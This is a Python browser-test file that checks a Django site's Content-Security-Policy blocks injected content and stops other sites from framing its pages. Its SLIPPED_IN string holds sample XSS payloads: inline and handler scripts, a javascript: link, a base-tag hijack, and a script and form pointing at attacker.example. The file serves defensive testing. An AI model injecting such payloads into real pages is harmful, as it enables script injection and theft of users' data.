"""The Content-Security-Policy in a real browser: what is slipped into a page does not run, what is ours does."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect
from pytest_django.live_server_helper import LiveServer

from tests.browser.eyes import SCREEN, stopped_by_policy, watch_policy
from tests.factories import Office

pytestmark = pytest.mark.browser

#: As if a template had forgotten to escape: a script, a handler, and an address that is a script.
SLIPPED_IN = """
<script>window.ran = "script"</script>
<img src="/static/none.png" onerror="window.ran = 'handler'">
<a id="trap" href="javascript:window.ran = 'address'">x</a>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<script src="https://attacker.example/x.js"></script>
<base href="https://attacker.example/">
<form id="thief" method="post" action="https://attacker.example/"><button>x</button></form>
</body>"""


@pytest.fixture
def watched(chromium: Browser, live_server: LiveServer) -> Iterator[BrowserContext]:
    """A browser whose pages keep what their policy stopped; console errors are expected in it."""
    context = chromium.new_context(base_url=live_server.url, viewport=SCREEN, locale="vi")
    watch_policy(context)
    yield context
    context.close()


def slip_in(route: Route) -> None:
    """The server's own answer with its own headers, and more in its body."""
    answer = route.fetch()
    route.fulfill(response=answer, body=answer.text().replace("</body>", SLIPPED_IN))


def sign_in(page: Page, office: Office) -> None:
    page.goto("/admin/login/")
    page.fill("[name=username]", office.counter.username)
    page.fill("[name=password]", "mat-khau-thu-nghiem")
    page.click("[type=submit]")
    page.wait_for_url("**/admin/")


@pytest.mark.parametrize("address", ["/", "/thu-tuc/", "/admin/login/", "/admin/"])
def test_a_script_that_is_slipped_into_a_page_does_not_run(
    watched: BrowserContext, office: Office, address: str
) -> None:
    page = watched.new_page()
    if address == "/admin/":
        sign_in(page, office)
    page.route(f"**{address}", slip_in)
    page.goto(address, wait_until="load")
    page.evaluate("document.getElementById('trap').click()")
    page.evaluate("document.getElementById('thief').submit()")
    page.wait_for_timeout(200)
    stopped = " ".join(stopped_by_policy(page))
    for way in (
        "script-src-elem",
        "script-src-attr",
        "attacker.example",
        "form-action",
        "base-uri",
    ):
        assert way in stopped, way
    assert page.evaluate("window.ran") is None
    assert page.url.startswith(page.evaluate("location.origin"))


def test_no_other_site_can_frame_a_page(
    watched: BrowserContext, live_server: LiveServer, office: Office
) -> None:
    page = watched.new_page()
    page.route(
        "https://attacker.example/",
        lambda route: route.fulfill(
            content_type="text/html",
            body=f'<iframe src="{live_server.url}/"></iframe>'
            f'<iframe src="{live_server.url}/admin/login/"></iframe>',
        ),
    )
    page.goto("https://attacker.example/", wait_until="load")
    framed = [frame.url for frame in page.frames[1:]]
    assert len(framed) == 2
    assert not [url for url in framed if url.startswith(live_server.url)]


@pytest.mark.slow
def test_the_description_of_rest_can_be_browsed_without_a_script_in_its_page(
    watched: BrowserContext, office: Office
) -> None:
    page = watched.new_page()
    page.goto("/api/docs/", wait_until="load")
    expect(page.locator("#operations-Look-up-lookup_progress")).to_be_visible(timeout=20_000)
    assert stopped_by_policy(page) == []
